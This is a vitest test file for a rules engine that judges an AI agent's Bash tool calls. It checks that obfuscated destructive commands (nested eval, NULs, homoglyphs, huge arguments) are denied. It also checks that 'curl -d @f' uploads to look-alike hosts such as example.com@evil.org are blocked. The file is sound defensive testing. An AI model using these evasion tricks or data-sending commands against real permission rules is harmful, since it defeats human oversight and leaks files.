// Rules and calls that nobody writes by accident: none of them passes a rule by, and none takes long.

import { describe, expect, it } from 'vitest'
import type { Effect } from '../../src/effects/effect.js'
import { effectsOf } from '../../src/effects/effects-of.js'
import { LONGEST_PATTERN, MOST_RULES, type Rule } from '../../src/rules/rule.js'
import { readRules } from '../../src/rules/rules-file.js'
import { rulesInForce } from '../../src/rules/rules-in-force.js'
import { verdictOf } from '../../src/rules/verdict.js'
import { HOME, PROJECT } from '../effects/command-lists.js'
import { counted } from '../property/work.js'

const ROOTS = { project: PROJECT, home: HOME }
const SITUATION = { permissionMode: undefined, now: 0 }

async function actionOf(command: string, ...rules: readonly Omit<Rule, 'id'>[]): Promise<string> {
  const context = { cwd: PROJECT, projectDir: PROJECT, home: HOME, env: {} }
  const effects = await effectsOf({ name: 'Bash', input: { command } }, context)
  const named = rules.map((rule, i) => ({ id: `r${i}`, ...rule }))
  const hits = rulesInForce({ rules: named }, ROOTS).judge(effects, SITUATION)
  const { result } = verdictOf(hits, effects, { may: 'all', file: 'rules.json' })
  return result.permission ?? result.action
}

const NO_DELETES: Omit<Rule, 'id'> = { effects: ['delete'], then: 'deny' }
const KEEP: Omit<Rule, 'id'> = { effects: ['delete'], of: '/srv/kept', then: 'deny' }

describe('a command that is hard to read', () => {
  it.each([
    ['a megabyte of words', `rm ${'x '.repeat(500_000)}/srv/kept`],
    ['a megabyte in quotes', `echo '${'x'.repeat(1_000_000)}'; rm -r /srv/kept`],
    ['a megabyte of a comment', `# ${'x'.repeat(1_000_000)}\nrm -r /srv/kept`],
    ['a NUL', 'rm -r /srv/kept\0'],
    ['a NUL in a word', 'rm -r /srv/k\0ept'],
    ['eval, nested 50 deep', `${'eval sudo env '.repeat(50)}rm -r /srv/kept`],
    ['sh -c, nested deep', nested('rm -r /srv/kept', 10)],
    ['substitutions, nested 50 deep', `${'echo $('.repeat(50)}rm -r /srv/kept${')'.repeat(50)}`],
    ['subshells, nested 50 deep', `${'( '.repeat(50)}rm -r /srv/kept${' )'.repeat(50)}`],
    ['groups, nested 5000 deep', `${'{ '.repeat(5000)}rm -r /srv/kept;${' }'.repeat(5000)}`],
    ['a look-alike of the program', '\u0433m -r /srv/kept'],
    ['a quote without end', "rm -r /srv/kept '"],
  ])('is denied or asked about: %s', async (_, command) => {
    expect(await actionOf(command, KEEP, { effects: ['unknown'], then: 'ask' })).toMatch(
      /^(?:deny|ask_user)$/,
    )
  })

  it.each([
    ['a megabyte of words', `rm ${'x '.repeat(500_000)}`],
    ['a NUL', 'rm -r /srv/kept\0'],
    ['groups, nested 5000 deep', `${'{ '.repeat(5000)}rm -r /srv/kept;${' }'.repeat(5000)}`],
  ])('is asked about without a rule for what is unknown: %s', async (_, command) => {
    expect(await actionOf(command, KEEP)).toMatch(/^(?:deny|ask_user)$/)
  })

  function nested(command: string, depth: number): string {
    return depth === 0 ? command : nested(`sh -c ${JSON.stringify(command)}`, depth - 1).slice(0, 200_000)
  }
})

describe('a look-alike of a host', () => {
  const OUT: Omit<Rule, 'id'> = { effects: ['send'], except: ['example.com', '127.*'], then: 'deny' }

  it.each([
    ['Cyrillic letters', '\u0435xample.com'],
    ['a dot that is another letter', 'example.com\u2024evil.org'],
    ['a user that looks like a host', 'example.com@evil.org'],
    ['two users', 'a@example.com@evil.org'],
    ['a longer name', 'example.com.evil.org'],
    ['punycode', 'xn--xample-2of.com'],
    ['a name that begins with an address', '127.0.0.1.evil.org'],
    ['a name that begins like an address', '127.evil.org'],
    ['a backslash', 'evil.org\\@example.com'],
  ])('is not excepted: %s', async (_, host) => {
    expect(await actionOf(`curl -d @f 'https://${host}/'`, OUT)).toBe('deny')
  })

  it.each([
    ['capital letters', 'EXAMPLE.Com'],
    ['a dot at the end', 'example.com.'],
    ['wide letters', '\uff45xample.com'],
    ['another dot', 'example\u3002com'],
    ['a decimal address', '2130706433'],
    ['an octal address', '0177.0.0.1'],
    ['a short address', '127.1'],
  ])('is the same host, in an exception and in a rule: %s', async (_, host) => {
    const command = `curl -d @f 'https://${host}/'`
    expect(await actionOf(command, OUT)).toBe('continue')
    expect(
      await actionOf(command, { effects: ['send'], of: ['example.com', '127.0.0.1'], then: 'deny' }),
    ).toBe('deny')
  })

  it.each(['bücher.example', '*.bücher.example', 'xn--bcher-kva.example', 'BÜCHER.example'])(
    'is meant by %s in either spelling',
    async (pattern) => {
      const prefix = pattern.startsWith('*') ? 'www.' : ''
      for (const host of ['bücher.example', 'xn--bcher-kva.example', 'bu\u0308cher.example'])
        expect(
          await actionOf(`curl -d @f 'https://${prefix}${host}/'`, {
            effects: ['send'],
            of: pattern,
            then: 'deny',
          }),
          host,
        ).toBe('deny')
    },
  )
})

describe('a look-alike of a path', () => {
  it.each([
    ['the other spelling of an accent', '/srv/café', 'rm -r /srv/cafe\u0301'],
    ['capital letters', '/srv/kept', 'rm -r /SRV/Kept'],
    ['dots and slashes', '/srv/kept', 'rm -r /srv//./x/../kept/'],
    ['quotes', '/srv/kept', `rm -r /s'r'v/"kept"`],
    ['an escape', '/srv/kept', String.raw`rm -r /srv/\kept`],
    ['a code', '/srv/kept', String.raw`rm -r $'/srv/\x6bept'`],
    ['a pattern', '/srv/kept', 'rm -r /srv/k[e]p?'],
  ])('is the same path to a rule that forbids: %s', async (_, of, command) => {
    expect(await actionOf(command, { ...NO_DELETES, of })).toBe('deny')
  })

  it.each([
    ['Cyrillic letters', 'rm -r /srv/k\u0435pt'],
    ['a letter that cannot be seen', 'rm -r /srv/ke\u200bpt'],
    ['a blank at the end', "rm -r '/srv/kept '"],
  ])('is another path to an exception: %s', async (_, command) => {
    expect(await actionOf(command, { ...NO_DELETES, except: '/srv/kept' })).toBe('deny')
  })
})

describe('rules that contradict', () => {
  const ALL: readonly Omit<Rule, 'id'>[] = [
    { effects: ['delete', 'run'], then: 'allow' },
    { effects: ['delete'], then: 'ask' },
    { effects: ['delete'], then: 'deny' },
    { effects: ['delete'], then: 'end_turn' },
  ]

  it('follow the strictest, in any order', async () => {
    const order = ['allow', 'ask_user', 'deny', 'abort_turn']
    for (let most = 0; most < ALL.length; most++) {
      const some = ALL.slice(0, most + 1)
      expect(await actionOf('rm x', ...some)).toBe(order[most])
      expect(await actionOf('rm x', ...some.toReversed())).toBe(order[most])
    }
  })
})

describe('a file full of rules', () => {
  const read = (rules: readonly object[]) => readRules({ rules }, { owner: 'user', now: 0, agents: [] })
  const catastrophic = [
    `${'*a'.repeat(100)}b`,
    `${'a*'.repeat(140)}b`,
    `/${'**/'.repeat(90)}x`,
    `/${'*/'.repeat(140)}x`,
    `${'?*'.repeat(140)}`,
    `{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}*`,
  ]

  it('that has too many of them is closed, and says so', () => {
    const many = Array.from({ length: MOST_RULES + 1 }, (_, i) => ({
      id: `r${i}`,
      effects: 'run',
      then: 'ask',
    }))
    expect(read(many).problems).toMatchObject([
      { closes: true, text: expect.stringContaining('at most 1000') },
    ])
    expect(read(many.slice(1)).problems).toEqual([])
  })

  it('with catastrophic patterns is judged in work that grows with the length of the call', async () => {
    const rules = catastrophic.flatMap((of, i) => [
      { id: `p${i}`, effects: ['delete'], of: of.slice(0, LONGEST_PATTERN), then: 'deny' },
      {
        id: `h${i}`,
        effects: ['send', 'run', 'git'],
        of: of.slice(0, LONGEST_PATTERN).replaceAll('/', ''),
        then: 'deny',
      },
    ]) as readonly Rule[]
    expect(read(rules).problems.filter(({ closes }) => closes)).toEqual([])
    const { work, close } = await counted<typeof import('../../src/rules/rules-in-force.js')>(
      '../../src/rules/rules-in-force.ts',
    )
    const judged = (effect: Effect) =>
      work((counting) => counting.rulesInForce({ rules }, ROOTS).judge([effect], SITUATION))
    try {
      for (const [name, long] of Object.entries(LONG)) {
        const [once, twice] = [await judged(long(500)), await judged(long(1000))]
        expect(once, name).toBeGreaterThan(500)
        expect(twice / once, name).toBeLessThan(2.2)
      }
    } finally {
      await close()
    }
  })
})

/** Effects of a given length. */
const LONG: Readonly<Record<string, (length: number) => Effect>> = {
  'a deep path': (length) => deleted(`/${'a/'.repeat(length)}`, false),
  'a long name': (length) => deleted(`/${'a'.repeat(length)}c`, false),
  'a pattern with a long end': (length) => deleted(`/srv/*${'a'.repeat(length)}`, true),
  'a pattern with a long start': (length) => deleted(`/srv/${'a'.repeat(length)}*`, true),
  'a pattern of stars': (length) => deleted(`/${'a*/'.repeat(length)}`, true),
  'a pattern of folders': (length) => deleted(`/${'**/a/'.repeat(length)}`, true),
  'a host': (length) => ({ kind: 'send', host: `${'a'.repeat(length)}c`, from: [], by: 'x' }),
  'a program': (length) => ({ kind: 'run', program: 'aa', args: ['a'.repeat(length)], by: 'x' }),
}

function deleted(path: string, wild: boolean): Effect {
  return { kind: 'delete', place: { path, known: true, wild, deep: true }, by: 'x' }
}
